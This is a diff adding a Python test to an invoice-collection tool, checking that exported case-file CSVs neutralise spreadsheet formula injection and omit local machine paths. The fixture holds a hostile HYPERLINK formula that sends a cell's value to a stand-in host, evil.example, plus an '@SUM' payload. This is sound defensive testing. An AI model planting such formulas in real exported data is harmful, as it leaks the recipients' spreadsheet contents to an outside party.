@@ -128,3 +128,39 @@ def test_unknown_or_ambiguous_customer_changes_nothing(tmp_path: Path, capsys: p
     assert main(["-q", "export-case", "-c", str(config.file), "nobody"]) == 2
     assert "nobody" in capsys.readouterr().err
     assert not (tmp_path / "dossiers-recouvrement").exists() or not any((tmp_path / "dossiers-recouvrement").iterdir())
+
+
+def test_case_file_csvs_are_inert_and_show_no_path_of_this_machine(tmp_path: Path) -> None:
+    from tests.support.libreoffice import recalculate
+
+    config = load_config(write_config(tmp_path, extra='from = "factures@dupont.example"\n'))
+    file = LedgerFile(tmp_path / "ledger.json")
+    hostile = '=HYPERLINK("https://evil.example/?leak="&A1;"Payer ici")'
+    file.save(ledger(
+        invoice("I1", 40, "1200.00", customer_id="C1", number=hostile),
+        invoice("I2", 18, "300.00", customer_id="C1", number="+33 1 45 00 00 00"),
+        invoice("I3", 18, "300.00", customer_id="C1", number="@SUM(1+1)"),
+        customers=(customer("C1", name="-Garage Faure"),),
+    ))
+    report = run_pass(config, as_of=MONDAY.date(), now=MONDAY, connector=FakeSource(file), fetch_pdf=lambda u: None)
+    assert report.sent and str(tmp_path) in report.sent[0].detail, "the outbox path is the sender's own business"
+    result = export_case(config, "C1", as_of=MONDAY.date(), now=MONDAY + timedelta(hours=1),
+                         fetch_pdf=lambda url: None)
+    out = tmp_path / "opened"
+    with zipfile.ZipFile(result.path) as archive:
+        texts = {n: archive.read(n) for n in archive.namelist() if n.endswith((".csv", ".txt"))}
+    assert texts and not [n for n, data in texts.items() if str(tmp_path).encode() in data]
+    history = next(data for name, data in texts.items() if name.endswith("historique.csv"))
+    assert b".eml" in history, "the history still names the message file, without the folder"
+    invoices = _rows(next(data for name, data in texts.items() if name.endswith("factures/factures.csv")))
+    assert {r["N° facture"] for r in invoices} >= {"'" + hostile, "'@SUM(1+1)"}
+    assert any(r["Reste dû"] == "1200.00" for r in invoices), "plain amounts stay numbers"
+    for name, data in texts.items():
+        if not name.endswith(".csv"):
+            continue
+        csv_path = out / Path(name).name
+        csv_path.parent.mkdir(parents=True, exist_ok=True)
+        csv_path.write_bytes(data)
+        opened = load_workbook(recalculate(csv_path, out / "xlsx"))
+        formulas = [c.coordinate for ws in opened for row in ws.iter_rows() for c in row if c.data_type == "f"]
+        assert formulas == [], f"{name}: LibreOffice opens live formulas in {formulas}"
